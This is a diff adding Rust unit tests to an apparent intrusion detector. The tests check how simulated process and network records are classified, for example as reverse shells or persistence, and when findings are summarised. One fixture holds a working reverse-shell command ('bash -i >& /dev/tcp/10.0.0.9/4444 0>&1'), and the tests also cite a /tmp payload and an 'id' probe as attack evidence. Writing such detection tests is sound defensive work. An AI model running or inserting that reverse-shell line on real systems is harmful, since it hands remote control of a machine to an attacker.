@@ -452,6 +452,24 @@ fn the_model_alone_is_low_severity_once_per_class_while_learning_then_silent() {
 }
 
 #[test]
+fn the_model_with_a_weak_indicator_is_summarised_unless_the_habit_is_new() {
+    let health = Arc::new(Health::default());
+    let mut d = Detector::new(DetectorConfig::default(), health.clone(), 0)
+        .with_scorer(Some(Arc::new(Fixed)));
+    // The function's partner, first contacted: the vote and the new destination, reported.
+    let partner = || endpoint("10.0.0.7:443");
+    let f = d.record(&with(record(1), partner()), 0).expect("new habit");
+    assert_eq!(f.severity, Severity::Low);
+    // Contacted again while still unfamiliar: nothing not reported before, summarised.
+    assert_eq!(d.record(&with(record(2), partner()), 0), None);
+    // Another new destination comes with the same vote: news.
+    assert!(d
+        .record(&with(record(3), endpoint("10.0.0.8:443")), 0)
+        .is_some());
+    assert_eq!(health.get(Counter::FindingsSummarised), 1);
+}
+
+#[test]
 fn a_beacon_planted_in_a_new_environment_is_reported_at_each_thaw_as_persistence() {
     let mut d = detector();
     for seq in 1..=3 {
@@ -483,6 +501,22 @@ fn a_payload_from_tmp_left_running_is_persistence_and_one_that_ends_a_dropper() 
     stays.evidence.push(left_running(50, "/tmp/.b", "/tmp/.b"));
     let planted = d.record(&stays, 0).expect("exec from /tmp, left running");
     assert_eq!(planted.class, Class::Persistence);
+}
+
+#[test]
+fn a_shell_on_a_socket_left_running_is_persistence_and_one_that_ends_a_reverse_shell() {
+    let mut d = warmed();
+    let wired = || process(60, "/bin/bash", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1");
+    let session = d
+        .record(&with(record(31), wired()), 0)
+        .expect("a shell on a socket");
+    assert_eq!(session.class, Class::ReverseShell);
+    let mut stays = with(record(32), wired());
+    stays
+        .evidence
+        .push(left_running(60, "/bin/bash", "bash -i"));
+    let kept = d.record(&stays, 0).expect("left running");
+    assert_eq!(kept.class, Class::Persistence);
 }
 
 fn forged(request_id: &str) -> Observation {
@@ -629,4 +663,23 @@ fn guarded_destinations_and_programs_become_habits_like_sampled_ones() {
     let mut t = crate::detect::indicators::Tracker::default();
     let fired = t.feed(&exec, &d.familiar, "/tmp/");
     assert!(!fired.contains(&Indicator::UnknownBinary), "{fired:?}");
+}
+
+#[test]
+fn the_generic_models_alarm_is_news_once_per_class_while_learning() {
+    let health = Arc::new(Health::default());
+    let mut d = Detector::new(DetectorConfig::default(), health.clone(), 0)
+        .with_scorer(Some(Arc::new(Fixed)));
+    // A shell runtime's own command, not yet a habit, with the model's alarm: reported once.
+    let own = || process(30, "/bin/sh", "sh -c jq -r .total /tmp/event.json");
+    let f = d.record(&with(record(1), own()), 0).expect("a new habit");
+    assert_eq!(f.severity, Severity::Low);
+    // The same again with the same alarm: the model says it of every invocation, summarised.
+    assert_eq!(d.record(&with(record(2), own()), 0), None);
+    assert_eq!(health.get(Counter::FindingsSummarised), 1);
+    // A hard indicator is reported whatever was said before.
+    let attack = with(record(3), process(31, "/bin/sh", "sh -c id"));
+    assert!(d
+        .record(&attack, 0)
+        .is_some_and(|f| f.severity >= Severity::High));
 }
